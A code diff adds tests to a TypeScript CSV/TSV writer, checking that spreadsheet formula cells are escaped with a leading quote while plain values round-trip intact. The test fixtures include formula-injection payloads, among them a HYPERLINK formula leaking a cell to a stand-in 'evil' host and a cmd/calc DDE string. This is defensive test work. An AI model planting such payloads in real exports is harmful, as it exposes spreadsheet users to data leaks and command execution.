@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { reduceToSeries } from '../series/reduce/reducer.js';
-import type { Row } from '@msc/core';
+import { setCsvFormulaPolicy, type Row } from '@msc/core';
 import { createTableWriter, readRows, readTable, readTableAll, writeTable } from './index.js';
 
 let dir: string;
@@ -244,3 +244,44 @@ describe('atomic writes', () => {
     expect(await readdir(sub)).toEqual([`out.${extension}`]);
   });
 });
+
+describe('spreadsheet-safe CSV (finding F10)', () => {
+  const hostile = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(A1:A2)', '\tTAB'];
+  const safe = ['-', '-0.5', '-1 0 0 0 1 0', '+3', 't2_tse_tra', "'quoted already"];
+
+  it('writes formula cells with a leading quote, leaves numbers and the missing marker, and reads every cell back as it was', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'msc-formulas-'));
+    const rows: Row[] = [...hostile, ...safe].map((text, i) => ({ study_uid: '1.2', series_uid: `1.2.${i}`, series_description: text }));
+    for (const ext of ['csv', 'tsv']) {
+      const path = join(dir, `t.${ext}`);
+      await writeTable(path, ['study_uid', 'series_uid', 'series_description'], rows);
+      const written = await readFile(path, 'utf8');
+      for (const text of hostile) expect(written).toContain(`'${text.startsWith('=') && ext === 'csv' ? '=HYPERLINK(""' : text.slice(0, 4)}`);
+      for (const line of written.split('\n').slice(1, hostile.length + 1)) expect(line.split(ext === 'csv' ? ',' : '\t')[2]).toMatch(/^"?'/);
+      for (const text of safe) expect(written.split('\n').some((line) => line.endsWith(ext === 'csv' ? `,${text}` : `\t${text}`))).toBe(true);
+      expect((await readTableAll(path)).rows.map((row) => row.series_description)).toEqual(rows.map((row) => row.series_description));
+      const series = await reduceFile(path);
+      // The series reducer trims cells (its own cleaning): compare trimmed.
+      expect(new Set(series)).toEqual(new Set(rows.map((row) => String(row.series_description).trim())));
+    }
+  });
+
+  it("writes cells raw under the policy 'keep' (--csv-formulas keep)", async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'msc-formulas-'));
+    const path = join(dir, 'raw.csv');
+    setCsvFormulaPolicy('keep');
+    try {
+      await writeTable(path, ['series_uid', 'series_description'], [{ series_uid: '1.2.3', series_description: '@SUM(A1:A2)' }]);
+    } finally {
+      setCsvFormulaPolicy('escape');
+    }
+    expect(await readFile(path, 'utf8')).toBe('series_uid,series_description\n1.2.3,@SUM(A1:A2)\n');
+  });
+});
+
+/** The series descriptions the threaded series reader (scan-delimited) gives for a table. */
+async function reduceFile(path: string): Promise<string[]> {
+  const { readSeriesTable } = await import('../series/read-series.js');
+  const table = await readSeriesTable(path);
+  return table.rows.map((row) => String(row.series_description));
+}
